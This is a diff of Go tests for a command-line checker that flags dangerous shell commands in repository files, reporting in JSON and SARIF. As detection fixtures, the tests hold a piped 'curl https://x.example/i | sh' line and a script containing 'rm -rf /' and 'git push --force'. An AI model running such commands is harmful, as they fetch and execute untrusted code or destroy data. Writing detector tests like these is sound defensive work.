@@ -10,10 +10,9 @@ import (
 	"slices"
 	"strings"
 	"testing"
-	"time"
 	"unicode/utf8"
 
-	"pp/cli/system"
+	"github.com/rogpeppe/go-internal/txtar"
 )
 
 // shapeFile is a file of a repository in the shape of a well-known one.
@@ -62,36 +61,64 @@ type foundInFiles struct {
 
 func checkFiles(t *testing.T, names ...string) (out foundInFiles) {
 	t.Helper()
-	home := t.TempDir()
-	var stdout, stderr strings.Builder
-	Main(system.System{Args: append([]string{"check", "--json", "--file"}, names...), Stdout: &stdout,
-		Stderr: &stderr,
-		Now:    time.Now, Random: zeros{}, Getenv: func(name string) (string, bool) { return home, name == "HOME" }})
-	if err := json.Unmarshal([]byte(stdout.String()), &out); err != nil {
-		t.Fatalf("%v: %s%s", err, stdout.String(), stderr.String())
+	_, stdout, stderr := asked(t.TempDir(), append([]string{"check", "--json", "--file"}, names...)...)
+	if err := json.Unmarshal([]byte(stdout), &out); err != nil {
+		t.Fatalf("%v: %s%s", err, stdout, stderr)
 	}
 	return out
 }
 
-// fileCase is a file, and what is decided of it.
-type fileCase struct{ name, text, want string }
+// TestFilesAreJudged judges each file of testdata/checkfile alone, in a repository. The name of a section is what is
+// decided and the name of the file; files that only stand next to the one before it are named "beside".
+func TestFilesAreJudged(t *testing.T) {
+	archives, err := filepath.Glob(filepath.Join("testdata", "checkfile", "*.txtar"))
+	if err != nil || len(archives) < 7 {
+		t.Fatalf("%d archives, %v", len(archives), err)
+	}
+	var list []txtar.File
+	for _, name := range archives {
+		archive, err := txtar.ParseFile(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		list = append(list, archive.Files...)
+	}
+	for i, f := range list {
+		want, name, _ := strings.Cut(f.Name, " ")
+		if want == "beside" {
+			continue
+		}
+		newRepository(t)
+		put(t, name, string(f.Data))
+		for _, other := range list[i+1:] {
+			beside, ok := strings.CutPrefix(other.Name, "beside ")
+			if !ok {
+				break
+			}
+			put(t, beside, string(other.Data))
+		}
+		if out := checkFiles(t, name); out.Decision != want {
+			t.Errorf("%s of %q is %s, want %s: %v", name, f.Data, out.Decision, want, out.Findings)
+		}
+	}
+}
 
-// judgeEach judges each file alone, in a repository.
-func judgeEach(t *testing.T, list []fileCase) {
+// newRepository makes a repository and works there.
+func newRepository(t *testing.T) {
 	t.Helper()
 	t.Chdir(t.TempDir())
 	if err := os.Mkdir(".git", 0o755); err != nil {
 		t.Fatal(err)
 	}
-	for _, tc := range list {
-		if err := os.MkdirAll(filepath.Dir(tc.name), 0o755); err != nil {
-			t.Fatal(err)
-		}
-		write(t, tc.name, tc.text)
-		if got := checkFiles(t, tc.name).Decision; got != tc.want {
-			t.Errorf("%s of %q is %s, want %s", tc.name, tc.text, got, tc.want)
-		}
+}
+
+// put writes a file, and the directories that it is in.
+func put(t *testing.T, name, text string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
+		t.Fatal(err)
 	}
+	write(t, name, text)
 }
 
 // What files of ten repositories hold is judged at its line,
@@ -100,18 +127,11 @@ func TestCommandsOfWellKnownShapes(t *testing.T) {
 	files, said := shapes(t)
 	commands, total, alarms := 0, 0, 0
 	for repository, list := range files {
-		dir := t.TempDir()
-		t.Chdir(dir)
-		if err := os.Mkdir(".git", 0o755); err != nil {
-			t.Fatal(err)
-		}
+		newRepository(t)
 		var names []string
 		texts := map[string][]string{}
 		for _, f := range list {
-			if err := os.MkdirAll(filepath.Dir(f.name), 0o755); err != nil {
-				t.Fatal(err)
-			}
-			write(t, f.name, f.text)
+			put(t, f.name, f.text)
 			names, texts[f.name] = append(names, f.name), strings.Split(f.text, "\n")
 		}
 		out := checkFiles(t, names...)
@@ -167,11 +187,7 @@ func standsThere(t *testing.T, lines []string, file string, line, column int, co
 func TestFindingsStandAtTheirLines(t *testing.T) {
 	const bad = "curl -fsSL https://x.example/i | sh"
 	files, _ := shapes(t)
-	dir := t.TempDir()
-	t.Chdir(dir)
-	if err := os.Mkdir(".git", 0o755); err != nil {
-		t.Fatal(err)
-	}
+	newRepository(t)
 	tried := 0
 	for repository, list := range files {
 		for n, f := range list {
@@ -195,10 +211,7 @@ func TestFindingsStandAtTheirLines(t *testing.T) {
 					continue
 				}
 				name := filepath.Join(repository, f.name)
-				if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
-					t.Fatal(err)
-				}
-				write(t, name, strings.Join(slices.Concat(lines[:i], []string{changed}, lines[i+1:]), "\n"))
+				put(t, name, strings.Join(slices.Concat(lines[:i], []string{changed}, lines[i+1:]), "\n"))
 				tried++
 				found := false
 				for _, g := range checkFiles(t, name).Findings {
@@ -215,15 +228,11 @@ func TestFindingsStandAtTheirLines(t *testing.T) {
 	}
 }
 
-// A report as SARIF is what the published schema says; PP_SARIF_SCHEMA names a copy of it.
+// A report as SARIF names each finding with its rule, level and place.
 func TestSARIF(t *testing.T) {
 	t.Chdir(t.TempDir())
-	home := t.TempDir()
 	write(t, "a b.sh", "#!/bin/sh\ngit push --force\necho 'é' && rm -rf /\n")
-	var stdout strings.Builder
-	Main(system.System{Args: []string{"check", "--sarif", "--file", "a b.sh", "gone.sh"}, Stdout: &stdout,
-		Stderr: &strings.Builder{}, Now: time.Now, Random: zeros{},
-		Getenv: func(name string) (string, bool) { return home, name == "HOME" }})
+	_, stdout, _ := asked(t.TempDir(), "check", "--sarif", "--file", "a b.sh", "gone.sh")
 	var log struct {
 		Version string
 		Runs    []struct {
@@ -243,8 +252,8 @@ func TestSARIF(t *testing.T) {
 			}
 		}
 	}
-	if err := json.Unmarshal([]byte(stdout.String()), &log); err != nil {
-		t.Fatalf("%v: %s", err, stdout.String())
+	if err := json.Unmarshal([]byte(stdout), &log); err != nil {
+		t.Fatalf("%v: %s", err, stdout)
 	}
 	var got []string
 	for _, r := range log.Runs[0].Results {
@@ -259,5 +268,4 @@ func TestSARIF(t *testing.T) {
 	if log.Version != "2.1.0" || !slices.Equal(got, want) {
 		t.Errorf("%s %q, want %q", log.Version, got, want)
 	}
-	sarifSchema(t, stdout.String())
 }
